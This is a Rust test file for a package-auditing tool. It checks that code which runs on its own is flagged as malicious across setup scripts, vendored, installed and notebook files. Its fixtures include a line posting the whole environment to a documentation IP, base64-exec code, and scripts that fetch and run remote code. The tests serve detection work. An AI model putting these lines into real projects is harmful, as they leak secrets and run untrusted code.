//! Packages that lie unpacked in a target: what is told of them, and what is left to their authors.

use crate::audit;
use std::collections::BTreeSet;
use wellhead_engine::Options;

/// Code that is hidden in data and run; it prints a word.
const HIDDEN: &str = "import base64\nexec(base64.b64decode(\"cHJpbnQoJ2luZXJ0Jyk=\"))\n";
/// Sends everything in the environment away.
const SENDS: &str = "import os, requests\nrequests.post(\"http://203.0.113.5/c\", json=dict(os.environ))\n";
const SETUP: &str = "from setuptools import setup\nsetup(name=\"acme\")\n";
const PROJECT: &str = "[project]\nname = \"acme\"\nversion = \"1.0\"\n";

/// `rule artifact` of what is told by the rules on packages.
fn told(files: &[(&str, &str)], asked: &[&str]) -> Vec<String> {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
    let options = Options {
        asked: asked.iter().map(|a| (*a).to_owned()).collect::<BTreeSet<_>>(),
        ..Options::default()
    };
    let report = audit(&files, &options);
    let rules = [
        "malicious-package-code",
        "suspicious-package-code",
        "startup-hook",
    ];
    let findings = report
        .findings
        .iter()
        .filter(|f| rules.contains(&f.rule.as_ref()));
    findings
        .map(|f| format!("{} {} {}", f.severity, f.rule, f.primary().unwrap().artifact))
        .collect()
}

#[test]
fn code_that_runs_by_itself_is_found_wherever_it_lies() {
    let setup = format!("{HIDDEN}{SETUP}");
    let notebook = "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"%pip install x\\n\",\"import base64\\n\",\"exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\\n\"]}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}";
    for (files, asked, expected) in [
        (
            vec![("setup.py", setup.as_str()), ("acme/__init__.py", "")],
            vec![],
            "setup.py",
        ),
        // What the package imports runs with it, in a project below the target.
        (
            vec![
                ("libs/b/pyproject.toml", PROJECT),
                ("libs/b/src/b/__init__.py", "from . import core\n"),
                ("libs/b/src/b/core.py", SENDS),
            ],
            vec![],
            "libs/b/src/b/core.py",
        ),
        // A builder inside of a package does not cut it off.
        (
            vec![
                ("setup.py", SETUP),
                ("acme/setup.py", SETUP),
                ("acme/__init__.py", SENDS),
            ],
            vec![],
            "acme/__init__.py",
        ),
        // What is vendored is imported, whoever imports it.
        (
            vec![
                ("pyproject.toml", PROJECT),
                ("src/acme/__init__.py", ""),
                ("src/acme/_vendor/evil/__init__.py", SENDS),
            ],
            vec![],
            "src/acme/_vendor/evil/__init__.py",
        ),
        (
            vec![
                ("setup.py", SETUP),
                ("third_party/thing-1.0/thing/__init__.py", HIDDEN),
            ],
            vec![],
            "third_party/thing-1.0/thing/__init__.py",
        ),
        // What was installed, by its record and without one.
        (
            vec![
                ("site-packages/acme/__init__.py", SENDS),
                (
                    "site-packages/acme-1.0.dist-info/METADATA",
                    "Name: acme\nVersion: 1.0\n",
                ),
                ("site-packages/acme-1.0.dist-info/RECORD", "acme/__init__.py,,\n"),
            ],
            vec![],
            "site-packages/acme/__init__.py",
        ),
        (
            vec![("lib/site-packages/stray.py", HIDDEN)],
            vec![],
            "lib/site-packages/stray.py",
        ),
        // Files alone, named or not, and the package whose folder is the target.
        (vec![("evil.py", HIDDEN)], vec!["evil.py"], "evil.py"),
        (vec![("work/evil.py", SENDS)], vec![], "work/evil.py"),
        (
            vec![("__init__.py", "from . import x\n"), ("x.py", SENDS)],
            vec![],
            "x.py",
        ),
        (
            vec![("evil.ipynb", notebook)],
            vec!["evil.ipynb"],
            "evil.ipynb!/cells.py",
        ),
        (
            vec![("nb/evil.ipynb", notebook)],
            vec![],
            "nb/evil.ipynb!/cells.py",
        ),
        (
            vec![("conf/sitecustomize.py", SENDS)],
            vec![],
            "conf/sitecustomize.py",
        ),
    ] {
        let expected = format!("critical malicious-package-code {expected}");
        assert_eq!(told(&files, &asked), [expected], "{files:?}");
    }
}

#[test]
fn what_authors_do_in_their_own_tree_is_left_to_them() {
    let git = "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output([\"git\", \"describe\"])\nsetup(name=\"acme\", version=v)\n";
    let fetches = "import subprocess, urllib.request\nurllib.request.urlretrieve(\"https://h.example/x.sh\", \"x.sh\")\nsubprocess.run([\"sh\", \"x.sh\"])\n";
    let runs = "import urllib.request\nexec(urllib.request.urlopen(\"https://h.example/x.py\").read())\n";
    let tells = "import platform, requests\nrequests.post(\"https://h.example/up\", json={\"node\": platform.node()})\n";
    let path = "import sys; sys.path.insert(0, '/x')\n";
    for files in [
        vec![
            ("setup.py", git),
            ("scripts/fetch.py", fetches),
            ("tool.py", runs),
        ],
        vec![
            ("pyproject.toml", PROJECT),
            ("monitor.py", tells),
            ("dev.pth", path),
        ],
        vec![("fetch.py", fetches), ("run.py", runs), ("monitor.py", tells)],
        // Weights have the ending of start-up files.
        vec![("model.pth", "\u{1}\u{2}import os\n"), ("a.py", "x = 1\n")],
    ] {
        assert_eq!(told(&files, &[]), [""; 0], "{files:?}");
    }
}

#[test]
fn what_is_left_out_is_said() {
    let large = format!("x = 1\n#{}\n", "x".repeat(17 << 20));
    let report = audit(
        &[("setup.py", SETUP.as_bytes()), ("acme.py", large.as_bytes())],
        &Options::default(),
    );
    assert_eq!(
        report.not_assessed.first().map(String::as_str),
        Some("the code of `.` was followed only in part: `acme.py` is too large")
    );
}
